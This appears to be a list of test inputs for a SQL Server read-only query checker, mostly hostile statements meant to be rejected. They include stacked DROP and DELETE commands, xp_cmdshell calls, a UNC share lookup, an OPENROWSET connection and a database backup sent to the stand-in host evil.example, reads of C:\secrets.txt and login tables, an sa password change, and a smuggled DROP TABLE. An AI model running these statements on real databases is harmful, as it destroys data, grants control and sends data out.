SELECT 1; DROP TABLE orders

SELECT 1 DROP TABLE orders

SELECT * FROM orders DELETE FROM orders

SELECT * FROM orders SHUTDOWN

SELECT order_id FROM orders SHUTDOWN WITH NOWAIT

SELECT 1 RECONFIGURE

SELECT 1 AS a CHECKPOINT

SELECT * FROM orders WAITFOR DELAY '0:0:10'

SELECT 1 WAITFOR DELAY '00:00:10'

SELECT 1 COMMIT

SELECT order_id FROM orders o ROLLBACK

SELECT 1 EXEC xp_cmdshell 'dir'

SELECT 1 EXEC('DROP TABLE orders')

DELETE FROM orders

DELETE TOP (10) FROM orders OUTPUT deleted.*

UPDATE orders SET status = 'x' OUTPUT inserted.order_id

INSERT INTO orders (order_id) EXEC p

MERGE orders AS o USING stock AS s ON o.order_id = s.product_id WHEN MATCHED THEN DELETE;

SELECT * INTO copied FROM orders

SELECT * INTO #t FROM orders

SELECT * INTO tempdb..t FROM orders

WITH x AS (SELECT 1 AS a) DELETE FROM orders WHERE order_id IN (SELECT a FROM x)

;WITH x AS (SELECT TOP 1 * FROM orders) UPDATE x SET status = 'x'

WITH x AS (SELECT TOP 1 * FROM orders) DELETE FROM x

EXEC xp_cmdshell 'whoami'

EXECUTE master.dbo.xp_cmdshell 'whoami'

EXEC sp_configure 'show advanced options', 1

EXEC sp_executesql N'DROP TABLE orders'

xp_dirtree '\\evil.example\share'

EXEC master..xp_dirtree '\\evil.example\share'

EXEC sp_OACreate 'WScript.Shell', @x OUT

DECLARE @x int; SET @x = 1; SELECT @x

DECLARE @s varchar(100) = 'DROP TABLE orders'; EXEC(@s)

SELECT @x = order_id FROM orders

SELECT @@VERSION

SELECT @@SERVERNAME

SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil.example', 'SELECT 1')

SELECT * FROM OPENROWSET(BULK 'C:\secrets.txt', SINGLE_CLOB) AS x

SELECT * FROM OPENQUERY(linked, 'DELETE FROM orders')

SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Server=evil.example').db.dbo.t

SELECT * FROM linked.db.dbo.orders

SELECT * FROM other_db.dbo.orders

SELECT * FROM sys.sql_logins

SELECT name FROM sys.tables

SELECT * FROM master..sysobjects

SELECT * FROM master.dbo.spt_values

SELECT * FROM sysobjects

SELECT * FROM dbo.syscolumns

SELECT * FROM INFORMATION_SCHEMA.TABLES

SELECT * FROM [sys].[objects]

SELECT * FROM [information_schema].[columns]

SELECT * FROM msdb.dbo.sysjobs

SELECT * FROM sys.dm_exec_sessions

SELECT * FROM sys.fn_xe_file_target_read_file('C:\*.xel', NULL, NULL, NULL)

SELECT * FROM fn_dblog(NULL, NULL)

SELECT * FROM fn_trace_gettable('C:\x.trc', DEFAULT)

SELECT * FROM sys.fn_get_audit_file('C:\x', NULL, NULL)

SELECT SUSER_NAME(), DB_NAME()

SELECT HOST_NAME()

SELECT SYSTEM_USER

SELECT HAS_PERMS_BY_NAME('orders', 'OBJECT', 'DELETE')

SELECT OBJECT_ID('orders')

SELECT IDENT_CURRENT('orders')

SELECT NEXT VALUE FOR dbo.seq

SELECT PWDCOMPARE('x', 0x01)

SELECT DECRYPTBYPASSPHRASE('x', 0x01)

SELECT dbo.my_function(order_id) FROM orders

SELECT [dbo].[my_function](1)

SELECT * FROM dbo.my_table_function(1)

SELECT o.order_id FROM orders o CROSS APPLY dbo.my_table_function(o.order_id) AS f

SELECT * FROM orders WITH (TABLOCKX)

SELECT * FROM orders WITH (UPDLOCK, ROWLOCK)

SELECT * FROM orders WITH (XLOCK)

SELECT * FROM orders WITH (HOLDLOCK)

SELECT * FROM orders OPTION (QUERYTRACEON 8649)

SELECT * FROM orders OPTION (USE HINT('DISABLE_OPTIMIZER_ROWGOAL'))

TRUNCATE TABLE orders

CREATE TABLE t (a int)

ALTER LOGIN sa WITH PASSWORD = 'x'

BULK INSERT orders FROM 'C:\x.csv'

BACKUP DATABASE shop TO DISK = '\\evil.example\x.bak'

RESTORE DATABASE shop FROM DISK = 'x'

DBCC DROPCLEANBUFFERS

GRANT CONTROL SERVER TO x

USE master

KILL 55

IF 1 = 1 DROP TABLE orders

WHILE 1 = 1 SELECT 1

BEGIN TRAN; DELETE FROM orders; COMMIT

PRINT 'x'

SELECT 1
GO
DROP TABLE orders

SELECT REPLICATE('x', 1000000)

SELECT CAST('<a/>' AS XML).query('/a')

SELECT geography::Point(1, 2, 4326).ToString()

SELECT "a]; " FROM orders; DROP TABLE orders --"
